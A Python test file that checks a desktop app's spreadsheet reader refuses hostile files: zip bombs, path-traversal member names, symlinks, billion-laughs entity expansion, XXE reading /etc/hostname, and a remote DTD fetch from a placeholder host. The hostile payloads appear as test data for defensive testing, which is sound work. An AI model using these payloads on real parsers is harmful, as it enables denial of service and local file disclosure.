"""Files made to do harm are refused with a code and a sentence, before they cost anything."""

from __future__ import annotations

import stat
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import pytest

from desktop_app.interchange.archive import checked_archive
from desktop_app.interchange.refusals import FileRefused
from desktop_app.interchange.spreadsheet import read_table
from tests.interchange import hostile

HEAD = hostile.headings("Given name", "Family name")
ROW = f'<row r="2">{hostile.text_cell("A2", "Ana")}{hostile.text_cell("B2", "Ittuk")}</row>'


def refused(path: Path) -> str:
    with pytest.raises(FileRefused) as told:
        read_table(path)
    sentence = str(told.value)
    assert sentence.endswith(".")
    assert "{" not in sentence
    return told.value.code


def test_a_cell_of_a_gigabyte_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    path = hostile.gigabyte_cell(tmp_path / "bomb.xlsx")
    assert path.stat().st_size < 6_000_000
    tracemalloc.start()
    try:
        assert refused(path) == "unpacks_too_large"
        assert tracemalloc.get_traced_memory()[1] < 5_000_000
    finally:
        tracemalloc.stop()


def test_a_cell_within_the_archive_limits_is_still_refused(tmp_path: Path) -> None:
    cell = hostile.text_cell("A2", "A" * 10_000_000)
    path = hostile.workbook(tmp_path / "long.xlsx", HEAD + f'<row r="2">{cell}</row>')
    assert refused(path) == "cell_too_long"


def test_a_cell_of_a_million_parts_is_refused(tmp_path: Path) -> None:
    runs = "<r><t>a</t></r>" * 1_000_000
    cell = f'<c r="A2" t="inlineStr"><is>{runs}</is></c>'
    path = hostile.workbook(tmp_path / "runs.xlsx", HEAD + f'<row r="2">{cell}</row>')
    assert refused(path) == "cell_too_long"


@pytest.mark.parametrize(
    "name",
    ["../evil.xml", "a/../../evil.xml", "/etc/passwd", "..\\evil.xml", "C:\\evil.xml",
     "\\\\server\\share", "a" * 600, "xl/\x00.xml"],
)  # fmt: skip
def test_names_that_leave_the_folder(tmp_path: Path, name: str) -> None:
    path = hostile.archive_of(tmp_path / "a.xlsx", ("[Content_Types].xml", b""), (name, b"x"))
    assert refused(path) in ("archive_unsound", "file_damaged")
    assert [one.name for one in tmp_path.iterdir()] == ["a.xlsx"]


def test_links_are_refused(tmp_path: Path) -> None:
    path = hostile.archive_of(
        tmp_path / "a.xlsx", ("link", b"/etc/passwd"), mode=stat.S_IFLNK | 0o777
    )
    assert refused(path) == "archive_unsound"


def test_members_that_lie_over_one_another(tmp_path: Path) -> None:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(b"a" * 1_000_000) + packer.flush()
    path = hostile.claimed(tmp_path / "a.xlsx", b"x", packed, 1_000_000, copies=20)
    assert refused(path) == "archive_unsound"


def test_a_size_that_is_not_true(tmp_path: Path) -> None:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(b"a" * 50_000_000) + packer.flush()
    path = hostile.claimed(tmp_path / "a.xlsx", b"[Content_Types].xml", packed, 100)
    assert refused(path) in ("file_damaged", "unpacks_too_large")


def test_too_many_members(tmp_path: Path) -> None:
    path = hostile.archive_of(tmp_path / "a.xlsx", *((f"{n}.xml", b"") for n in range(2_001)))
    assert refused(path) == "archive_unsound"


def test_locked_and_unusual_members(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("[Content_Types].xml", b"x" * 100)
    assert refused(path) == "archive_unsound"


BOMB = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9)).replace("&l0;", "&lol;")
    + "]>"
)
OUTSIDE = '<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
REMOTE = '<!DOCTYPE a SYSTEM "http://192.0.2.1/evil.dtd">'


@pytest.mark.parametrize("before", [BOMB, OUTSIDE, REMOTE])
def test_markup_that_defines_its_own(tmp_path: Path, before: str) -> None:
    cell = hostile.text_cell("A2", "&xxe;" if before is OUTSIDE else "text")
    path = hostile.workbook(tmp_path / "a.xlsx", HEAD + f'<row r="2">{cell}</row>', before=before)
    assert refused(path) == "markup_unsafe"


@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "docProps/core.xml", "xl/styles.xml"])
def test_the_other_parts_are_looked_over_too(tmp_path: Path, part: str) -> None:
    more = {part: f"<?xml version='1.0'?>{BOMB}<a>&l9;</a>".encode()}
    path = hostile.workbook(tmp_path / "a.xlsx", HEAD + ROW, more=more)
    assert refused(path) == "markup_unsafe"


def test_wide_letters_do_not_hide_a_document_type(tmp_path: Path) -> None:
    more = {"xl/styles.xml": f"<?xml version='1.0' encoding='utf-16'?>{BOMB}<a/>".encode("utf-16")}
    path = hostile.workbook(tmp_path / "a.xlsx", HEAD + ROW, more=more)
    assert refused(path) == "markup_unsafe"


def test_macros_are_not_run_and_said(tmp_path: Path) -> None:
    path = hostile.workbook(
        tmp_path / "a.xlsm",
        HEAD + ROW,
        kind=hostile.MACROS,
        more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"},
    )
    table = read_table(path)
    assert table.rows == [["Ana", "Ittuk"]]
    assert [notice.code for notice in table.notices] == ["macros"]


@pytest.mark.parametrize("length", [0, 3, 4, 30, 200, 600, 1_000])
def test_a_workbook_that_is_cut_off(tmp_path: Path, length: int) -> None:
    whole = hostile.workbook(tmp_path / "whole.xlsx", HEAD + ROW).read_bytes()
    path = tmp_path / "a.xlsx"
    path.write_bytes(whole[:length])
    assert refused(path) in ("file_damaged", "no_headings", "not_a_spreadsheet")


def test_every_flipped_byte_is_read_or_refused(tmp_path: Path) -> None:
    whole = hostile.workbook(tmp_path / "whole.xlsx", HEAD + ROW).read_bytes()
    path = tmp_path / "a.xlsx"
    outcomes = set()
    for at in range(0, len(whole), 11):
        path.write_bytes(whole[:at] + bytes((whole[at] ^ 0x55,)) + whole[at + 1 :])
        try:
            read_table(path)
            outcomes.add("read")
        except FileRefused as told:
            outcomes.add(told.code)
    assert {"read", "file_damaged"} <= outcomes


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "old_or_locked_workbook"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00\x01\x02\x03" * 100, "not_a_spreadsheet"),
        (b"PK\x03\x04nothing", "file_damaged"),
        (b"", "no_headings"),
        (b'a,b\n"never closed' + b"x" * 200_000, "file_damaged"),
    ],
)
def test_what_is_no_table(tmp_path: Path, data: bytes, code: str) -> None:
    path = tmp_path / "list.csv"
    path.write_bytes(data)
    assert refused(path) == code


def test_an_absent_file_is_told(tmp_path: Path) -> None:
    assert refused(tmp_path / "gone.xlsx") == "file_not_readable"


def test_a_member_whose_name_is_no_text(tmp_path: Path) -> None:
    path = tmp_path / "clients.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("é.xml", "<a/>")
    path.write_bytes(path.read_bytes().replace("é".encode(), b"\xf6\xa9"))
    assert refused(path) == "file_damaged"


def test_nothing_is_kept_open_after_a_refusal(tmp_path: Path) -> None:
    path = hostile.archive_of(tmp_path / "a.zip", ("../x", b""))
    with pytest.raises(FileRefused), checked_archive(path):
        pass
    path.unlink()
    assert not path.exists()
